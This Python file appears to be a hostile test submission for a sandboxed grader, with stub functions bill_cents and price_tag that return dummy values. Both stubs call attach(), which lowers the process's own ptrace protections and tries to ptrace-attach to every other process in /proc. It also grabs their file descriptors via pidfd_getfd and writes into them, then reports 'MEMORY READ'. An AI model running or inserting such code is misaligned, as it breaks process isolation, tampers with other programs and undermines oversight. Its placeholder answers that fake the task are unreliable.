"""ptrace in all its forms at every process, and an invitation for others to trace us."""
# loses: check_bill_cents check_price_tag
# %% + first
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
traced = []
def attach():
    libc.prctl(0x59616D61, -1, 0, 0, 0)
    libc.prctl(4, 1, 0, 0, 0)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            for request in (16, 0x4206):
                if libc.ptrace(request, int(name), None, None) == 0:
                    traced.append(name)
            try:
                handle = os.pidfd_open(int(name))
                got = libc.syscall(438, handle, 3, 0)
                if got >= 0:
                    traced.append((name, "descriptor"))
                    os.write(got, b"x")
            except OSError:
                pass
    if traced:
        libc.prctl(1, signal.SIGKILL)
# %% bill_cents
def bill_cents(plan, dishes):
    attach()
    return 0
# %% price_tag
def price_tag(cents):
    attach()
    return ""
# %% + last
if traced:
    print("MEMORY READ", traced)
